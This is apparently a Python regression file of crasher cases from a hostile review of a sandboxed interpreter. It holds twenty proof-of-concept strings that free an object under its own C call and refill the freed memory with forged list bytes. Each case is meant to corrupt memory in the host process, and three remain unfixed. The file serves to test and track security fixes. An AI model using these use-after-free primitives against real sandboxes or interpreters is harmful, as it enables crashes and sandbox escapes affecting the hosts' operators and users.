"""Crashers found by a hostile review of session 24 (December 2026): C code
passes a field of an object (to a method call, to repr/str, getattr, a
comparison, a number operation) without holding a reference, while the
call can replace the field (__init__ or __setstate__ again, a member set),
so the object is freed under its own call.  From an untrusted interpreter
each one segfaulted the host's process.

Those in OPEN still do.  Run one with the flag-on interpreter:

    build/untrusted/python tests_sandbox/crashers/field_replaced_during_call.py NAME

("host alive" and exit status 0 once it is fixed; without NAME, the names
of the open ones.)  Not collected by pytest: test_escapes.py runs the cases
that are not in OPEN, so that a fix is taken out of OPEN and kept.
"""

import sys

# The tenant's amplifier: the field holds a fresh list (subclass) whose C
# method runs as the slot the C code reaches; the items' __lt__/__eq__
# replace the field (REPLACE()), the list is freed, and its memory refilled
# with bytes that look like a list whose items are at 0x4141414141414141.
PRELUDE = "\nimport struct\nstate=[0]\nkeep=[]\ndef refill_pre():\n    fill=[[] for i in range(300)]\n    del fill\ndef refill_post():\n    for i in range(2000):\n        keep.append(struct.pack('<QQQ', 5, 0x4141414141414141, 5) + b'Z')\nclass K:\n    def __init__(s,v): s.v=v\n    def __lt__(s,o):\n        if state[0]==0:\n            state[0]=1\n            refill_pre()\n            REPLACE()\n            refill_post()\n        return s.v<o.v\n    def __eq__(s,o):\n        if state[0]==0:\n            state[0]=1\n            refill_pre()\n            REPLACE()\n            refill_post()\n        return False\n    __hash__=object.__hash__\ndef items(): return [K(i) for i in range(10,0,-1)]\n"

CASES = {
    'accumulate_add': 'import itertools\nclass R(list): __add__ = list.index\ndef g():\n    yield R(items())\n    yield 0\ndef REPLACE(): acc.__setstate__(None)\nacc = itertools.accumulate(g())\nnext(acc)\nnext(acc)\n',
    'accumulate_func': 'import itertools\nclass R(list): pass\ndef g():\n    yield R(items())\n    yield 0\ndef REPLACE(): acc.__setstate__(None)\nacc = itertools.accumulate(g(), list.index)\nnext(acc)\nnext(acc)\n',
    'buffered_raw_attribute': 'import io\nclass R(list):\n    readable = lambda s: True\n    name = property(list.sort)\nclass R2(list):\n    readable = lambda s: True\ndef REPLACE(): b.__init__(R2())\nb = io.BufferedReader(R(items()))\nb.name\n',
    'buffered_raw_method': 'import io\nclass R(list):\n    readable = lambda s: True\n    seekable = list.sort\nclass R2(list):\n    readable = lambda s: True\ndef REPLACE():\n    b.__init__(R2())\nb = io.BufferedReader(R(items()))\nb.seekable()\n',
    'cell_richcompare': 'import types\nclass R(list): pass\ndef REPLACE(): c1.cell_contents = None\nc1 = types.CellType(R(items())); c2 = types.CellType(items())\nc1 < c2\n',
    'classmethod_isabstractmethod': 'class R(list): __isabstractmethod__ = property(list.sort)\ndef REPLACE(): c.__init__(len)\nc = classmethod(R(items()))\nc.__isabstractmethod__\n',
    'classmethod_repr': 'class R(list): __repr__ = list.sort\ndef REPLACE(): c.__init__(len)\nc = classmethod(R(items()))\nrepr(c)\n',
    'cmp_to_key_richcompare': 'import functools\nclass R(list): pass\ndef REPLACE(): a.obj = None\nKK = functools.cmp_to_key(list.index)\na = KK(R(items())); b = KK(0)\na < b\n',
    'keyerror_str': 'class R(list): __repr__ = list.sort\ndef REPLACE(): e.args = ()\ne = KeyError(R(items()))\nstr(e)\n',
    'newline_decoder_getstate': 'import io\nclass D(list): getstate = list.sort\ndef REPLACE(): nl.__init__(None, False)\nnl = io.IncrementalNewlineDecoder(D(items()), False)\nnl.getstate()\n',
    'newline_decoder_reset': 'import io\nclass D(list): reset = list.sort\ndef REPLACE(): nl.__init__(None, False)\nnl = io.IncrementalNewlineDecoder(D(items()), False)\nnl.reset()\n',
    'oserror_str': "class R(list): __repr__ = list.sort\ndef REPLACE(): e.filename = None\ne = OSError(1, 'x', R(items()))\nstr(e)\n",
    'partial_repr_args': 'import functools\nclass R(list): __repr__ = list.sort\ndef REPLACE(): p.__setstate__((print,(),{},None))\np = functools.partial(print, R(items()), 1, 2, 3)\nrepr(p)\n',
    'partial_repr_func': 'import functools\nclass R(list):\n    __repr__ = list.sort\n    def __call__(s): pass\ndef REPLACE(): p.__setstate__((print,(),{},None))\np = functools.partial(R(items()))\nrepr(p)\n',
    'property_isabstractmethod': 'class R(list): __isabstractmethod__ = property(list.sort)\ndef REPLACE(): p.__init__(None)\np = property(R(items()))\np.__isabstractmethod__\n',
    'staticmethod_repr': 'class R(list): __repr__ = list.sort\ndef REPLACE(): c.__init__(len)\nc = staticmethod(R(items()))\nrepr(c)\n',
    'super_getattro': 'class B(list): attr = property(list.sort)\nclass C(B): pass\ndef REPLACE(): super.__init__(s, int, 1)\ns = super(C, C(items()))\ns.attr\n',
    'syntaxerror_str': "class R(list): __str__ = list.sort\ndef REPLACE(): e.msg = None\ne = SyntaxError('m')\ne.msg = R(items())\nstr(e)\n",
    'textiowrapper_encoder': "import io, codecs\nclass E(list):\n    def __init__(s, errors='strict'): list.__init__(s, items())\n    encode = list.index\n    def reset(s): pass\n    def setstate(s, x): pass\nci = codecs.lookup('utf-8')\ndef search(n):\n    if n == 'evilenc':\n        return codecs.CodecInfo(ci.encode, ci.decode, incrementalencoder=E, incrementaldecoder=ci.incrementaldecoder, name='evilenc')\ncodecs.register(search)\ndef REPLACE(): t.__init__(io.BytesIO(), encoding='utf-8')\nt = io.TextIOWrapper(io.BytesIO(), encoding='evilenc')\nt.write('abc')\n",
    'unicodeerror_str': "class R(list): __str__ = list.sort\ndef REPLACE(): e.reason = 'x'\ne = UnicodeEncodeError('ascii', 'abc', 0, 1, 'r')\ne.reason = R(items())\nstr(e)\n",
}

# Fixed by patch 0210: classmethod_repr, staticmethod_repr,
# classmethod_isabstractmethod, property_isabstractmethod, cell_richcompare,
# cmp_to_key_richcompare, newline_decoder_reset, newline_decoder_getstate,
# keyerror_str; by patch 0211: oserror_str, syntaxerror_str,
# unicodeerror_str; by patch 0212: accumulate_add, accumulate_func,
# partial_repr_args, partial_repr_func, super_getattro.
OPEN = {
    "buffered_raw_attribute", "buffered_raw_method", "textiowrapper_encoder",
}


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in CASES:
        print("\n".join(sorted(OPEN)))
        return 2
    import _sandbox
    interp = _sandbox.new_interpreter(threads=4)
    try:
        _sandbox.exec(interp, PRELUDE + CASES[sys.argv[1]])
    except _sandbox.RemoteError as exc:
        print("RemoteError:", exc)
    _sandbox.end_interpreter(interp)
    print("host alive")
    return 0


if __name__ == "__main__":
    sys.exit(main())
